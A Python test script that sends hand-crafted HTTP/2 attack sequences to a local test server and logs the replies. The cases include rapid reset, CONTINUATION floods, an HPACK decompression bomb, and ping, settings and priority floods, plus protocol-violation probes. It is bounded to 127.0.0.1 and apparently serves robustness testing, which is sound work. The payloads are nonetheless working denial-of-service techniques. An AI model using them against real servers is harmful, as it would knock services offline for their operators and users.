#!/usr/bin/env python3
"""Crafted HTTP/2 frame sequences against the test server (127.0.0.1 only).

Usage: h2attack.py CASE PORT

Frames are built by hand (the `h2` package's connection object refuses to
send invalid sequences); header blocks come from the `hpack` package and
the server's answers are parsed with `hyperframe`, both installed with the
`h2` package from PyPI. Prints one line per frame received:

    SETTINGS flags=0 / PING ack / WINDOW_UPDATE stream=0 inc=N
    HEADERS stream=N status=S / DATA stream=N len=L end=0|1
    RST stream=N code=C / GOAWAY code=C last=N debug=...
    EOF                (the server closed the connection)
    SENT n             (bytes of the attack the server accepted)

Bounded: every socket operation times out, the whole run stops after 20 s.
"""

import socket
import ssl
import struct
import sys
import time

from hpack import Decoder, Encoder
from hyperframe.frame import Frame

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS, PADDED = 0x1, 0x1, 0x4, 0x8
CANCEL = 8


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def settings(**params):
    ids = {"header_table_size": 1, "enable_push": 2, "max_concurrent_streams": 3,
           "initial_window_size": 4, "max_frame_size": 5, "max_header_list_size": 6}
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", ids[k], v) for k, v in params.items()))


def request_block(enc, path="/", method="GET", extra=()):
    return enc.encode([(":method", method), (":scheme", "https"), (":authority", "127.0.0.1"),
                       (":path", path)] + list(extra))


def get(enc, stream, path="/", end=True):
    return frame(HEADERS, END_HEADERS | (END_STREAM if end else 0), stream, request_block(enc, path))


def connect(port):
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols(["h2"])
    raw = socket.create_connection(("127.0.0.1", port), timeout=10)
    s = ctx.wrap_socket(raw, server_hostname="localhost")
    if s.selected_alpn_protocol() != "h2":
        sys.exit("ALPN did not select h2")
    return s


class Reader:
    def __init__(self, sock):
        self.sock = sock
        self.buf = b""
        self.dec = Decoder()
        self.data = {}

    def frames(self, seconds, stop=None):
        """Prints frames for up to `seconds`; returns at EOF or when stop(line) is true."""
        end = time.time() + seconds
        while time.time() < end:
            while len(self.buf) >= 9:
                f, length = Frame.parse_frame_header(memoryview(self.buf[:9]))
                if len(self.buf) < 9 + length:
                    break
                body, self.buf = self.buf[9:9 + length], self.buf[9 + length:]
                f.parse_body(memoryview(body))
                line = self.describe(f)
                print(line, flush=True)
                if stop and stop(line):
                    return True
            self.sock.settimeout(max(0.05, min(1.0, end - time.time())))
            try:
                chunk = self.sock.recv(65536)
            except socket.timeout:
                continue
            except (ConnectionError, ssl.SSLError, OSError):
                chunk = b""
            if not chunk:
                print("EOF", flush=True)
                return True
            self.buf += chunk
        return False

    def describe(self, f):
        t = f.type
        if t == SETTINGS:
            return "SETTINGS ack" if "ACK" in f.flags else "SETTINGS " + " ".join(f"{k}={v}" for k, v in f.settings.items())
        if t == PING:
            return "PING ack" if "ACK" in f.flags else "PING"
        if t == WINDOW_UPDATE:
            return f"WINDOW_UPDATE stream={f.stream_id} inc={f.window_increment}"
        if t == HEADERS:
            fields = dict(self.dec.decode(f.data))
            return f"HEADERS stream={f.stream_id} status={fields.get(':status', fields.get(b':status'))}"
        if t == DATA:
            self.data[f.stream_id] = self.data.get(f.stream_id, 0) + len(f.data)
            return f"DATA stream={f.stream_id} len={len(f.data)} end={int('END_STREAM' in f.flags)}"
        if t == RST_STREAM:
            return f"RST stream={f.stream_id} code={f.error_code}"
        if t == GOAWAY:
            return f"GOAWAY code={f.error_code} last={f.last_stream_id} debug={f.additional_data.decode(errors='replace')}"
        return f"FRAME type={t} stream={f.stream_id}"


def send_all(s, data):
    """Sends the attack; the server may close midway. Prints how much went out."""
    sent = 0
    try:
        while sent < len(data):
            sent += s.send(data[sent:sent + 65536])
    except (ConnectionError, ssl.SSLError, OSError, socket.timeout):
        pass
    print(f"SENT {sent}", flush=True)


def start(port, **params):
    s = connect(port)
    s.sendall(PREFACE + settings(**params) + frame(SETTINGS, ACK, 0))
    return s, Reader(s), Encoder()


def until_goaway(line):
    return line.startswith("GOAWAY")


def main():
    case, port = sys.argv[1], int(sys.argv[2])
    deadline = 20

    if case == "rapid_reset":
        s, r, enc = start(port)
        attack = b"".join(get(enc, 2 * i + 1) + frame(RST_STREAM, 0, 2 * i + 1, struct.pack(">I", CANCEL))
                          for i in range(5000))
        send_all(s, attack)
    elif case == "continuation_flood":
        s, r, enc = start(port)
        attack = frame(HEADERS, END_STREAM, 1, request_block(enc))
        attack += b"".join(frame(CONTINUATION, 0, 1, enc.encode([("x-a", "b" * 100)])) for _ in range(10000))
        send_all(s, attack)
    elif case == "empty_continuation_flood":
        s, r, enc = start(port)
        attack = frame(HEADERS, END_STREAM, 1, request_block(enc)) + frame(CONTINUATION, 0, 1) * 100000
        send_all(s, attack)
    elif case == "hpack_bomb":
        s, r, _ = start(port)
        enc = Encoder()
        # One 4000-byte literal with incremental indexing, then 25 000
        # one-byte references to it: 100 MB if decoded in full, in a block
        # of 29 KB (below the block size limit).
        block = request_block(enc) + enc.encode([("x-bomb", "a" * 4000)])
        block += b"\xbe" * 25000
        first, rest = block[:16000], block[16000:]
        attack = frame(HEADERS, END_STREAM, 1, first)
        while rest:
            chunk, rest = rest[:16000], rest[16000:]
            attack += frame(CONTINUATION, 0 if rest else END_HEADERS, 1, chunk)
        send_all(s, attack)
    elif case == "hpack_table_size":
        s, r, enc = start(port)
        # Dynamic table size update to 2^20 at the start of the block.
        update = bytes([0x3f]) + bytes([0xe1, 0xff, 0x3f])  # 31 + 0x61 + (0x7f<<7) + (0x3f<<14)
        send_all(s, frame(HEADERS, END_HEADERS | END_STREAM, 1, update + request_block(enc)))
    elif case == "big_headers":
        s, r, enc = start(port)
        block = request_block(enc, extra=[("x-big", "v" * 20000)])
        send_all(s, frame(HEADERS, END_STREAM, 1, block[:16000]) + frame(CONTINUATION, END_HEADERS, 1, block[16000:]))
        r.frames(5, lambda l: l.startswith("HEADERS"))
        send_all(s, get(enc, 3, "/style.css"))
        r.frames(5, lambda l: l.startswith("DATA stream=3") and l.endswith("end=1"))
        return
    elif case == "settings_flood":
        s, r, enc = start(port)
        send_all(s, settings(initial_window_size=65535) * 10000)
    elif case == "ping_flood":
        s, r, enc = start(port)
        send_all(s, frame(PING, 0, 0, b"12345678") * 20000)
    elif case == "empty_data_flood":
        s, r, enc = start(port)
        send_all(s, frame(HEADERS, END_HEADERS, 1, request_block(enc, "/hook", "POST")) + frame(DATA, 0, 1) * 20000)
    elif case == "priority_flood":
        s, r, enc = start(port)
        send_all(s, b"".join(frame(PRIORITY, 0, 2 * i + 1, struct.pack(">IB", 0, 16)) for i in range(20000)))
    elif case == "zero_window":
        # Stream window 0, never opened: the server resets the stream.
        s, r, enc = start(port, initial_window_size=0)
        send_all(s, get(enc, 1, "/big.bin"))
        r.frames(10, lambda l: l.startswith("RST"))
        send_all(s, get(enc, 3, "/style.css") + frame(WINDOW_UPDATE, 0, 3, struct.pack(">I", 1000)))
        r.frames(5, lambda l: l.startswith("DATA stream=3") and l.endswith("end=1"))
        return
    elif case == "connection_zero_window":
        # Large stream window, but the connection window is never opened.
        s, r, enc = start(port, initial_window_size=1 << 30)
        send_all(s, get(enc, 1, "/big.bin"))
    elif case == "bad_preface":
        s = connect(port)
        r = Reader(s)
        send_all(s, b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")
    elif case == "data_on_stream_0":
        s, r, enc = start(port)
        send_all(s, frame(DATA, 0, 0, b"x"))
    elif case == "even_stream":
        s, r, enc = start(port)
        send_all(s, get(enc, 2))
    elif case == "decreasing_stream":
        s, r, enc = start(port)
        send_all(s, get(enc, 5) + get(enc, 3))
    elif case == "oversized_frame":
        s, r, enc = start(port)
        send_all(s, frame(HEADERS, END_HEADERS, 1, request_block(enc, "/hook", "POST")) + frame(DATA, 0, 1, b"x" * 20000))
    elif case == "window_overflow":
        s, r, enc = start(port)
        send_all(s, frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x7fffffff)))
    elif case == "hook_body":
        s, r, enc = start(port)
        block = request_block(enc, "/hook", "POST", [("content-length", "100000")])
        body = bytes(100000)
        attack = frame(HEADERS, END_HEADERS, 1, block)
        for i in range(0, len(body), 10000):
            attack += frame(DATA, END_STREAM if i + 10000 >= len(body) else 0, 1, body[i:i + 10000])
        send_all(s, attack)
        r.frames(10, lambda l: l.startswith("DATA stream=1") and l.endswith("end=1"))
        return
    else:
        sys.exit(f"unknown case {case}")
    r.frames(deadline, until_goaway)
    r.frames(3)  # then the server closes


if __name__ == "__main__":
    main()
